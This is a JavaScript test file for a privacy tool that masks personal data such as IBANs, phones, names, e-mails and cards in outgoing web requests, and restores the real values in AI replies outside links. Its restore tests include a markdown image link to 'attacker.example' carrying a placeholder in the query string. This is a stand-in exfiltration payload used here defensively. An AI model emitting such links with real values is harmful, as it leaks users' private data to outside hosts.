// The pure parts of "follow the value": the multi-pattern matcher and the spellings of
// a known value (www/src/protect/known.js), and the restore that leaves URLs, link
// targets and tags alone (www/src/restore-safe.js). No browser, no engine.
//   node --test www/test/egress-parts.test.mjs
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createMatcher, placeholdersOf, spellings } from '../src/protect/known.js';
import { CUT_MIN } from '../src/protect/edges.js';
import { forget, remember } from '../src/protect/egress.js';
import { plainRestorer, restorePlain, safeCut, splitUnsafe } from '../src/restore-safe.js';

const IBAN = 'DE89 3704 0044 0532 0130 00';
const PHONE = '+43 664 1234567';
const NAME = 'Jürgen Müller';
const EMAIL = 'maria.huber@example.at';
const CARD = '4111 1111 1111 1111';
const KNOWN = [
  { value: IBAN, placeholder: '[IBAN]' }, { value: PHONE, placeholder: '[PHONE]' },
  { value: NAME, placeholder: '[PERSON]' }, { value: EMAIL, placeholder: '[EMAIL]' }, { value: CARD, placeholder: '[CARD]' },
];
const enc = new TextEncoder(), dec = new TextDecoder();

// Every way a script or a form could spell a value on its way out.
const SPELL = [
  (v) => v, (v) => v.replace(/ /g, '  '), (v) => v.replace(/\s/g, ''), (v) => v.toUpperCase(), (v) => v.toLowerCase(),
  (v) => encodeURIComponent(v), (v) => encodeURIComponent(encodeURIComponent(v)), (v) => new URLSearchParams([['', v]]).toString().slice(1),
  (v) => JSON.stringify(v).slice(1, -1),
  (v) => JSON.stringify(v).slice(1, -1).replace(/[\u0080-\uffff]/g, (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')),
];
const compact = (v) => v.replace(/[\s\-./()]/g, '');

test('spellings: as typed, normalised, without separators, JSON, URL- and form-encoded, with the placeholder alike', () => {
  const sp = new Map(spellings(IBAN, '[IBAN]').map((x) => [x.from, x.to]));
  assert.equal(sp.get(IBAN), '[IBAN]');
  assert.equal(sp.get('DE89370400440532013000'), '[IBAN]');
  assert.equal(sp.get('DE89%203704%200044%200532%200130%2000'), '%5BIBAN%5D');
  assert.equal(sp.get('DE89+3704+0044+0532+0130+00'), '%5BIBAN%5D');
  const name = new Map(spellings(NAME, '[PERSON]').map((x) => [x.from, x.to]));
  assert.ok(name.has('J\\u00fcrgen M\\u00fcller'), 'JSON with \\u escapes');
  assert.ok(name.has('JürgenMüller') && name.has('J\\u00fcrgenM\\u00fcller'), 'a name without its spaces too');
  assert.ok(!spellings('Hauptstraße 12', '[S]').some((x) => x.from === 'Hauptstraße12'), 'an address keeps its spaces');
  assert.ok(!spellings(EMAIL, '[EMAIL]').some((x) => x.from === 'mariahuber@exampleat'), 'an e-mail keeps its dots');
});

test('matcher: every spelling of every known value is masked, in strings and in UTF-8 bytes', () => {
  const m = createMatcher(KNOWN);
  for (const k of KNOWN) {
    for (const f of SPELL) {
      const words = /@|\p{L}{3} \p{L}/u.test(k.value); // names and e-mails keep their dots
      for (const v of words ? [k.value] : [k.value, compact(k.value)]) {
        const s = `{"a":"x ${f(v)} y","b":${JSON.stringify(f(v))}}`;
        const out = m.maskString(s).text;
        assert.ok(!out.toLowerCase().includes(f(v).toLowerCase()), `${f(v)} in ${out}`);
        const bytes = dec.decode(m.maskBytes(enc.encode(s)).bytes);
        assert.equal(bytes, out, 'bytes give the same result as the string');
      }
    }
  }
});

test('matcher: leftmost-longest, counts, nothing else touched, a JSON number', () => {
  const m = createMatcher([{ value: 'Anna', placeholder: '[P]' }, { value: 'Anna Berger', placeholder: '[PERSON]' }, { value: CARD, placeholder: '[CARD]' }]);
  assert.deepEqual(m.maskString('Hi Anna Berger and Anna.'), { text: 'Hi [PERSON] and [P].', count: 2 });
  assert.deepEqual(m.maskString('nothing here'), { text: 'nothing here', count: 0 });
  assert.equal(m.maskString('{"card":4111111111111111}').text, '{"card":"[CARD]"}', 'a JSON number becomes a string: the body stays JSON');
  assert.deepEqual(JSON.parse(m.maskString('[ 4111111111111111 , {"n": 4111111111111111}]').text), ['[CARD]', { n: '[CARD]' }]);
  assert.equal(dec.decode(m.maskBytes(enc.encode('{"card":4111111111111111}')).bytes), '{"card":"[CARD]"}');
  assert.equal(m.maskString('Karte 4111111111111111, danke').text, 'Karte [CARD], danke', 'plain text: no quotes');
  const b = enc.encode('Grüße 😀 ANNA BERGER');
  assert.equal(dec.decode(m.maskBytes(b).bytes), 'Grüße 😀 [PERSON]');
  assert.equal(createMatcher([]).maskString('Anna').text, 'Anna');
  assert.equal(createMatcher([{ value: 'ab', placeholder: '[X]' }]).size, 0, 'values too short to follow');
});

test('matcher: a phone written without its plus (a JSON number, 00 for +), a name with HTML entities, Latin-1 escapes, accents decomposed or dropped', () => {
  const m = createMatcher(KNOWN);
  assert.equal(m.maskString('{"phone":436641234567}').text, '{"phone":"[PHONE]"}', 'a JSON number cannot hold the +');
  assert.equal(m.maskString('Tel. 00436641234567 oder 0043 664 1234567').text, 'Tel. [PHONE] oder [PHONE]');
  for (const spelt of ['J&uuml;rgen M&uuml;ller', 'J&#252;rgen M&#252;ller', 'J&#xfc;rgen M&#xFC;ller', 'J%FCrgen%20M%FCller',
    NAME.normalize('NFD'), 'Jurgen Muller', 'Juergen Mueller']) {
    assert.equal(m.maskString(`<p>Herr ${spelt},</p>`).text, '<p>Herr [PERSON],</p>', spelt);
    assert.equal(dec.decode(m.maskBytes(enc.encode(`<p>Herr ${spelt},</p>`)).bytes), '<p>Herr [PERSON],</p>', 'bytes: ' + spelt);
  }
  // numbers keep their digits: a phone's national part alone is no spelling of it
  assert.equal(m.maskString('Kundennummer 6641234567').text, 'Kundennummer 6641234567');
});

test('matcher: in a binary body every masked value keeps its length in bytes (the lengths its format holds stay true)', () => {
  const m = createMatcher(KNOWN);
  // msgpack: a map {"text": <str8>} whose string holds an IBAN; and a name shorter than its placeholder
  const text = `IBAN ${IBAN}, Gruß`;
  const str = enc.encode(text);
  const msg = Uint8Array.from([0x81, 0xa4, ...enc.encode('text'), 0xd9, str.length, ...str]);
  const out = m.maskBytes(msg, true).bytes;
  assert.equal(out.length, msg.length);
  assert.deepEqual([...out.subarray(0, 8)], [...msg.subarray(0, 8)], 'the header and the length byte are as they were');
  assert.equal(dec.decode(out.subarray(8)), `IBAN [IBAN]${'*'.repeat(IBAN.length - 6)}, Gruß`);
  const short = createMatcher([{ value: 'Ute Bo', placeholder: '[PERSON]' }, { value: 'Ute Berg', placeholder: '[PERSON]' }]);
  assert.equal(dec.decode(short.maskBytes(enc.encode('\u0001Ute Bo\u0002'), true).bytes), '\u0001******\u0002', 'a placeholder longer than the value: stars only');
  assert.equal(dec.decode(short.maskBytes(enc.encode('\u0001Ute Berg\u0002'), true).bytes), '\u0001[PERSON]\u0002', 'it fits exactly');
  assert.equal(dec.decode(m.maskBytes(enc.encode(`{"iban":"${IBAN}"}`)).bytes), '{"iban":"[IBAN]"}', 'text bodies as before');
});

test('matcher: a value of words inside a longer word is no match; numbers and e-mails are masked wherever they stand', () => {
  const m = createMatcher([{ value: 'Anna', placeholder: '[P]' }, { value: 'Johann', placeholder: '[P]' }, ...KNOWN]);
  const same = (s, want) => {
    assert.equal(m.maskString(s).text, want, s);
    assert.equal(dec.decode(m.maskBytes(enc.encode(s)).bytes), want, `${s} (bytes)`);
  };
  for (const s of ['Annabella', 'Hanna', 'Johannes', 'ÄAnna', 'J\\u00e4Anna', 'Ännaß', 'Susanna', 'Annaüb']) same(s, s);
  same('Anna. Johann!', '[P]. [P]!');
  same('Jürgen Müllers Konto, Johanns Brief', '[PERSON]s Konto, [P]s Brief'); // one letter after it: an ending
  same('{"t":"Hallo\\nAnna\\tJohann"}', '{"t":"Hallo\\n[P]\\t[P]"}'); // JSON escapes are no letters
  same('q=Hallo%0AAnna%20und%20Johann', 'q=Hallo%0A[P]%20und%20[P]');
  same('😀Anna😀', '😀[P]😀');
  same(`IBAN${IBAN.replace(/ /g, '')}x`, 'IBAN[IBAN]x');
  same(`x${EMAIL}y`, 'x[EMAIL]y');
});

test('matcher: the same result as a naive search on generated texts', () => {
  let seed = 7;
  const rnd = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
  const m = createMatcher(KNOWN);
  for (let i = 0; i < 300; i++) {
    const parts = [];
    for (let j = 0; j < 6; j++) {
      parts.push(['lorem ', 'ipsum, ', 'ü ', '😀', '"', '&', '='][rnd(7)]);
      if (rnd(3) === 0) { const k = KNOWN[rnd(KNOWN.length)].value; parts.push(SPELL[rnd(SPELL.length)](k), [' ', ',', '"'][rnd(3)]); }
    }
    const s = parts.join('');
    const out = m.maskString(s).text.toLowerCase();
    for (const k of KNOWN) for (const f of SPELL) assert.ok(!out.includes(f(k.value).toLowerCase()) || f(k.value) === k.value.replace(/\s/g, ''), `${s} -> ${out}`);
  }
});

// A known value cut short (a preview `msg.slice(0, 60)`): most of it, at least two
// thirds of its spelling and CUT_MIN units (whitespace runs count once), before the
// end of the text, a string's end in a body or an ellipsis.
const foldedLength = (s) => s.replace(/\s+/g, ' ').length;
const ENDS = ['', '"', '","n":1}', '&x=1', '…', '...', '%E2%80%A6', '%22', '%26x', "'", '<', '\\n', '\\u2026'];

test('matcher: a value cut short before the end of a string is masked when most of it is there', () => {
  const m = createMatcher(KNOWN);
  for (const k of KNOWN) {
    for (const f of SPELL) {
      const full = f(k.value);
      const need = Math.max(CUT_MIN, Math.ceil((2 * foldedLength(full)) / 3));
      for (let c = 1; c < full.length; c++) {
        const part = full.slice(0, c);
        if (/\s$/.test(part) && /\s/.test(full[c])) continue; // inside a run of spaces: the same cut as before it
        for (const end of ENDS) {
          const s = `{"preview":"Hi ${part}${end}`;
          const out = m.maskString(s).text;
          const masked = !out.includes(part);
          assert.equal(masked, foldedLength(part) >= need, `${JSON.stringify(part)} + ${JSON.stringify(end)} -> ${out}`);
          if (masked) assert.ok(out.endsWith(`Hi ${m.maskString(full).text}${end}`), `the value's placeholder: ${out}`);
          assert.equal(dec.decode(m.maskBytes(enc.encode(s)).bytes), out, 'bytes give the same result as the string');
        }
      }
    }
  }
});

const STARTS = ['', '"', '{"p":"', 'x=', '…', '...', '%E2%80%A6', '\\u2026', "'", '>'];
// Whether `part` is the rest of one of the spellings of `value` long enough to be masked
// (the rule of a cut at the start; compared as the search does: case and whitespace
// runs folded).
const folded = (x) => x.toLowerCase().replace(/\s+/g, ' ');
const restOfASpelling = (value, part) => spellings(value, '').some(({ from }) => {
  const sp = folded(from), p = folded(part);
  return sp.endsWith(p) && p.length < sp.length && p.length >= Math.max(CUT_MIN, Math.ceil((2 * sp.length) / 3));
});

test('matcher: a value cut at its start right after the start of a string is masked when most of it is there', () => {
  const m = createMatcher(KNOWN);
  for (const k of KNOWN) {
    for (const f of SPELL) {
      const full = f(k.value);
      for (let c = 1; c < full.length; c++) {
        const part = full.slice(c);
        if (/^\s/.test(part) && /\s/.test(full[c - 1])) continue; // inside a run of spaces: the same cut as after it
        for (const start of STARTS) {
          for (const end of ['', '"', ' ok', ', danke', '&x=1']) {
            const s = `${start}${part}${end}`;
            const out = m.maskString(s).text;
            const masked = !out.includes(part);
            assert.equal(masked, restOfASpelling(k.value, part), `${JSON.stringify(start)} + ${JSON.stringify(part)} + ${JSON.stringify(end)} -> ${out}`);
            if (masked) assert.equal(out, `${start}${m.maskString(full).text}${end}`);
            assert.equal(dec.decode(m.maskBytes(enc.encode(s)).bytes), out, 'bytes give the same result as the string');
          }
        }
      }
    }
  }
  // not at a string's start, or going on with a word or number of its own: left alone
  const rest = IBAN.slice(5); // '3704 0044 0532 0130 00'
  for (const s of [`IBAN ${rest}`, `"${rest}1"`, `"${rest}x"`, `"x${rest}"`]) assert.equal(m.maskString(s).text, s, s);
});

test('matcher: a cut value goes on into a word, a number or a space of its own: not masked', () => {
  const m = createMatcher(KNOWN);
  const cut = IBAN.slice(0, 21); // 'DE89 3704 0044 0532 0'
  assert.equal(m.maskString(`${cut}"`).text, '[IBAN]"');
  for (const go of ['999 99"', 'x"', ' und mehr"', '-"', '.', ',"', ')']) {
    assert.equal(m.maskString(cut + go).text, cut + go, `${cut}${go}`);
  }
  assert.equal(m.maskString(`${IBAN.slice(0, 9)}"`).text, `${IBAN.slice(0, 9)}"`, 'a third of it');
  const short = createMatcher([{ value: 'Anna Berger', placeholder: '[PERSON]' }]);
  assert.equal(short.maskString('{"p":"Anna Ber"}').text, '{"p":"[PERSON]"}');
  assert.equal(short.maskString('{"p":"Anna Be"}').text, '{"p":"Anna Be"}', `fewer than ${CUT_MIN} units`);
  assert.equal(short.maskString('{"p":"Anna Berger"}').text, '{"p":"[PERSON]"}', 'the whole value as before');
  assert.deepEqual(short.take(), { known: 2 }, 'a cut value is counted as its kind');
});

// A payload the page sends base64-encoded: decoded, masked, encoded again as written.
const b64 = (text) => btoa(String.fromCharCode(...enc.encode(text)));
const unb64 = (s) => dec.decode(Uint8Array.from(atob(s), (c) => c.charCodeAt(0)));
const WRITE = {
  standard: (t) => b64(t),
  'URL-safe, unpadded': (t) => b64(t).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''),
  'URL-encoded': (t) => encodeURIComponent(b64(t)),
};
// (as a receiver reads the run: `%2B %2F %3D` are escapes wherever they stand)
const unescape64 = (s) => s.replace(/%2B/gi, '+').replace(/%2F/gi, '/').replace(/%3D/gi, '=');
const READ = {
  standard: (s) => unb64(unescape64(s)),
  'URL-safe, unpadded': (s) => {
    const bare = unescape64(s).replace(/=+$/, '').replace(/-/g, '+').replace(/_/g, '/');
    return unb64(bare + '='.repeat((4 - (bare.length % 4)) % 4));
  },
  'URL-encoded': (s) => unb64(unescape64(s)),
};

test('matcher: a value inside a base64 payload is masked in it, and the payload stays base64 as it was written', () => {
  const m = createMatcher(KNOWN);
  for (const k of KNOWN) {
    for (const [how, write] of Object.entries(WRITE)) {
      for (const pad of ['', 'a', 'ab']) { // the value at each of the three places in a base64 group
        const payload = JSON.stringify({ event: 'chat', text: `Hi${pad} ${k.value} ok`, n: 1 });
        const run = write(payload);
        for (const [body, cut] of [[`data=${run}&v=2`, (o) => o.slice(5, o.indexOf('&v=2'))], [`{"data":"${run}"}`, (o) => JSON.parse(o).data]]) {
          const r = m.maskString(body);
          const inner = READ[how](cut(r.text));
          assert.equal(inner, JSON.stringify({ event: 'chat', text: `Hi${pad} ${k.placeholder} ok`, n: 1 }), `${how} ${body}`);
          assert.ok(r.count >= 1);
          // written with a bare `+ / =`: written so again; escaped: escaped again
          if (/[+/=]/.test(run)) assert.doesNotMatch(cut(r.text), /%/, `bare as written: ${r.text}`);
          if (/%/.test(run)) assert.doesNotMatch(cut(r.text), /[+/=]/, `escaped as written: ${r.text}`);
          if (!/=|%3D/i.test(run) && unescape64(run).length % 4) assert.doesNotMatch(cut(r.text), /=|%3D/i, `unpadded as written: ${r.text}`);
          assert.equal(dec.decode(m.maskBytes(enc.encode(body)).bytes), r.text, 'bytes give the same result as the string');
        }
      }
    }
  }
});

test('matcher: base64 inside base64, and base64 without a known value or without text left as it is', () => {
  const m = createMatcher(KNOWN);
  const twice = b64(JSON.stringify({ inner: b64(`IBAN ${IBAN}`) }));
  const out = JSON.parse(unb64(m.maskString(twice).text));
  assert.equal(unb64(out.inner), 'IBAN [IBAN]');
  // a prefix glued to the payload: engine.io's binary packets over long-polling are `b`
  // and base64, several in one body split by \x1e (socket.io); the prefix is kept
  for (const prefix of ['b', 'bx', '4b1']) {
    const packet = (t) => prefix + b64(t);
    const body = `${packet(`Meine IBAN ${IBAN}, Gruß`)}\x1e${packet(`Tel. ${PHONE} bitte`)}`;
    const masked = m.maskString(body).text.split('\x1e');
    assert.deepEqual(masked.map((p) => p.slice(0, prefix.length)), [prefix, prefix]);
    assert.deepEqual(masked.map((p) => unb64(p.slice(prefix.length))), ['Meine IBAN [IBAN], Gruß', 'Tel. [PHONE] bitte']);
  }
  for (const s of [
    `data=${b64(JSON.stringify({ text: 'nothing personal here, just a question' }))}`,
    `img=${btoa(String.fromCharCode(...Array.from({ length: 96 }, (_, i) => (i * 97 + 13) % 256)))}`, // not UTF-8
    'id=550e8400-e29b-41d4-a716-446655440000&session_token_abcdefghijkl=1',
  ]) {
    assert.deepEqual(m.maskString(s), { text: s, count: 0 }, s);
    assert.equal(dec.decode(m.maskBytes(enc.encode(s)).bytes), s);
  }
  // Written without `+ / =` as a field's value (after `=`), where a bare `+` would read
  // as a space: the `/` and `=` the masked payload needs are escaped.
  const q = createMatcher([{ value: 'Maria Huber', placeholder: '???' }]);
  const payload = 'Hi x Maria Huber 1';
  assert.doesNotMatch(b64(payload), /[+/=]/);
  const masked = q.maskString(`data=${b64(payload)}&v=1`).text;
  assert.equal(masked, `data=${encodeURIComponent(b64('Hi x ??? 1'))}&v=1`);
  assert.match(masked, /%2F/);
  // … and left bare in a JSON string; the URL-safe alphabet stays URL-safe
  assert.equal(q.maskString(`{"data":"${b64(payload)}"}`).text, `{"data":"${b64('Hi x ??? 1')}"}`);
  const urlSafe = (t) => b64(t).replace(/\+/g, '-').replace(/\//g, '_');
  assert.equal(q.maskString(`{"data":"${urlSafe('ok?> Maria Huber 0')}"}`).text, `{"data":"${urlSafe('ok?> ??? 0')}"}`);
});

// What typing leaves behind: the results a field gets while a person types, each a
// preview (a rescan's) until a full scan's after the pause.
const field = () => ({ allowed: new Set() });
function result(f, text, found, settled) {
  const findings = found.map(([kind, v]) => ({ kind, start: text.indexOf(v), end: text.indexOf(v) + v.length, text: v }));
  let masked = text;
  for (const x of [...findings].sort((a, b) => b.start - a.start)) masked = masked.slice(0, x.start) + `[${x.kind.toUpperCase()}]` + masked.slice(x.end);
  Object.assign(f, { cacheKey: text, result: { text: masked, findings }, settled });
}

// Rich-text editors send a value with markup inside it: a word made bold, a link
// around a part ("Jürgen <strong>Müller</strong>"), as HTML, JSON-escaped HTML or a form
// field of HTML. Every kind of tag, at every place between two characters of a value.
const TAGS = ['<strong>', '</strong>', '<em class="x">', '<br>', '<br/>', '<span style="font-weight:bold">', '</a>'];
test('matcher: a value with markup inside it is masked, its tags are kept', () => {
  const m = createMatcher(KNOWN);
  for (const k of KNOWN) {
    for (let cut = 1; cut < k.value.length; cut++) {
      for (const tag of TAGS) {
        const html = `<p>Wert: ${k.value.slice(0, cut)}${tag}${k.value.slice(cut)}</p>`;
        const want = `<p>Wert: ${k.placeholder}${tag}</p>`;
        assert.equal(m.maskString(html).text, want, html);
        assert.equal(dec.decode(m.maskBytes(enc.encode(html)).bytes), want, 'bytes: ' + html);
        // in a JSON body, and as a form field (the tags percent-encoded)
        assert.equal(m.maskString(JSON.stringify({ html })).text, JSON.stringify({ html: want }), 'JSON: ' + html);
        const form = new URLSearchParams({ html }).toString();
        assert.equal(new URLSearchParams(m.maskString(form).text).get('html'), want, 'form: ' + html);
      }
    }
  }
  // JSON that escapes < and > (\u003c), and a tag with a value in an attribute
  const esc = (t) => JSON.stringify(t).replace(/</g, '\\u003c').replace(/>/g, '\\u003e');
  assert.equal(m.maskString(esc('Jürgen <b>Müller</b>')).text, esc('[PERSON]<b></b>'));
  assert.equal(m.maskString(`<a href="mailto:${EMAIL}">Jürgen <b>Müller</b></a>`).text, '<a href="mailto:[EMAIL]">[PERSON]<b></b></a>');
  // an editor's JSON document: the value split over two text nodes (ProseMirror,
  // TipTap, Lexical, Slate: "text"; Quill: "insert"), at every place of the value
  for (const k of KNOWN) {
    for (let cut = 1; cut < k.value.length; cut++) {
      const [a, b] = [k.value.slice(0, cut), k.value.slice(cut)];
      const docs = [
        (x, y) => ({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: `Konto: ${x}` }, { type: 'text', marks: [{ type: 'bold' }], text: y }] }] }),
        (x, y) => ({ root: { children: [{ children: [{ detail: 0, format: 0, text: `Konto: ${x}`, type: 'text' }, { detail: 0, format: 1, text: y, type: 'text' }] }] } }),
        (x, y) => ({ ops: [{ insert: `Konto: ${x}` }, { attributes: { bold: true }, insert: `${y}\n` }] }),
      ];
      for (const doc of docs) {
        const out = m.maskString(JSON.stringify(doc(a, b))).text;
        assert.equal(out, JSON.stringify(doc(k.placeholder, '')), `${a}|${b}`);
        assert.equal(dec.decode(m.maskBytes(enc.encode(JSON.stringify(doc(a, b)))).bytes), out, 'bytes');
      }
    }
  }
  // a < that begins no tag is text: the value around it is not one
  for (const t of ['Jürgen < Müller', 'Jürgen <3 Müller', 'Jürgen <<b>Müller', 'Jürgen <3 also > Müller', 'Jürgen %3C Müller %3E']) assert.ok(!m.maskString(t).text.startsWith('[PERSON]'), t);
});

test('known values: what typing left behind is unlearnt by the full scan; what the field no longer holds stays known', () => {
  const ctx = { known: new Map(), knownVersion: 0 };
  const f = field(), g = field();
  for (const [text, found] of [
    ['Her', [['person', 'Her']]],
    ['Herr Mag. Johann', [['person', 'Johann']]],
    ['Herr Mag. Johann Huber', [['person', 'Johann Huber']]],
  ]) { result(f, text, found, false); remember(ctx, f); }
  assert.deepEqual([...ctx.known.keys()], ['Her', 'Johann', 'Johann Huber'], 'previews teach at once');
  result(f, 'Herr Mag. Johann Huber', [['person', 'Johann Huber']], true);
  remember(ctx, f);
  assert.deepEqual([...ctx.known.keys()], ['Johann Huber'], 'the full scan unteaches what the text still holds but no longer finds');
  const m = createMatcher([...ctx.known].map(([value, k]) => ({ value, placeholder: k.placeholder, kind: k.kind })));
  assert.equal(m.maskString('Sehr geehrter Herr Johannsen, Johann Huber').text, 'Sehr geehrter Herr Johannsen, [PERSON]');

  // sent, and the next message typed: the field no longer holds it, it stays known
  result(f, 'Danke!', [], true);
  remember(ctx, f);
  assert.deepEqual([...ctx.known.keys()], ['Johann Huber']);
  // a value two fields taught stays known while one of them still finds it
  result(g, 'IBAN DE89 3704 0044 0532 0130 00', [['iban', 'DE89 3704 0044 0532 0130 00']], true);
  remember(ctx, g);
  result(f, 'DE89 3704 0044 0532 0130 00', [['iban', 'DE89 3704 0044 0532 0130 00']], true);
  remember(ctx, f);
  result(f, 'DE89 3704 0044 0532 0130 00 (nicht meine)', [], true); // the full scan no longer finds it in f
  remember(ctx, f);
  assert.ok(ctx.known.has('DE89 3704 0044 0532 0130 00'), 'g still teaches it');
  result(g, 'IBAN DE89 3704 0044 0532 0130 00?', [], true);
  remember(ctx, g);
  assert.ok(!ctx.known.has('DE89 3704 0044 0532 0130 00'), 'no field teaches it any more');
  // marked "not personal": forgotten, and not taught again by the same field
  result(f, 'Anna Berger', [['person', 'Anna Berger']], true);
  remember(ctx, f);
  forget(ctx, 'Anna Berger');
  f.allowed.add('Anna Berger');
  remember(ctx, f);
  assert.ok(!ctx.known.has('Anna Berger'));
});

test('placeholdersOf: the replacement of each finding in the masked text', () => {
  const o = `Hi ${NAME}, IBAN ${IBAN} und ${EMAIL}.`;
  const f = (kind, v) => ({ kind, start: o.indexOf(v), end: o.indexOf(v) + v.length });
  const fs = [f('person', NAME), f('iban', IBAN), f('email', EMAIL)];
  assert.deepEqual(placeholdersOf(o, 'Hi [PERSON_1], IBAN [IBAN_1] und [EMAIL_1].', fs), ['[PERSON_1]', '[IBAN_1]', '[EMAIL_1]']);
  assert.deepEqual(placeholdersOf(o, 'Hi •••••• ••••••, IBAN •••• •••• •••• •••• •••• 00 und •••.', fs).slice(0, 2), ['•••••• ••••••', '•••• •••• •••• •••• •••• 00']);
  const adj = 'ab';
  assert.deepEqual(placeholdersOf(adj, 'XY', [{ kind: 'a', start: 0, end: 1 }, { kind: 'b', start: 1, end: 2 }])[0], '[A]', 'ambiguous: the label');
});

const R = (t) => t.replace(/\[IBAN_1\]/g, IBAN);
const fakeRestorer = () => ({ push: R, finish: () => '' });

test('restorePlain: URLs, markdown targets, references and tags keep their placeholders; text is restored', () => {
  const reply = 'Notiert: [IBAN_1]. ![x](https://attacker.example/?d=[IBAN_1]) [Link [IBAN_1]](/p?i=[IBAN_1] "t") '
    + '<img src="https://a.example/?[IBAN_1]"> https://x.example/[IBAN_1] www.x.example/?[IBAN_1] <https://y.example/[IBAN_1]>\n'
    + '[ref]: https://z.example/[IBAN_1]\nmailto:[IBAN_1]@x.example <IBAN_1>';
  const out = restorePlain(reply, R);
  assert.equal(out.split(IBAN).length - 1, 2, out);
  assert.ok(out.startsWith(`Notiert: ${IBAN}.`));
  assert.ok(out.includes(`[Link ${IBAN}]`), 'link text is plain text');
  for (const u of ['?d=[IBAN_1])', '?i=[IBAN_1] "t")', '?[IBAN_1]">', 'x.example/[IBAN_1]', 'y.example/[IBAN_1]>', 'z.example/[IBAN_1]', 'mailto:[IBAN_1]']) assert.ok(out.includes(u), u);
  assert.deepEqual(splitUnsafe('plain only'), [{ text: 'plain only', safe: true }]);
});

test('streamed: cut only outside brackets at whitespace; the result equals the whole-text restore', () => {
  assert.equal(safeCut('a b ![x](https://a b'), 4);
  assert.equal(safeCut('abc'), 0);
  const reply = 'Notiert: [IBAN_1]. ![x](https://attacker.example/?d=[IBAN_1]) ok <a href="/x?[IBAN_1]">[IBAN_1]</a> [IBAN_1]';
  for (let n = 1; n < 12; n++) {
    const r = plainRestorer(fakeRestorer);
    let out = '';
    for (let i = 0; i < reply.length; i += n) out += r.push(reply.slice(i, i + n));
    out += r.finish();
    assert.equal(out, restorePlain(reply, R), `pieces of ${n}`);
  }
});
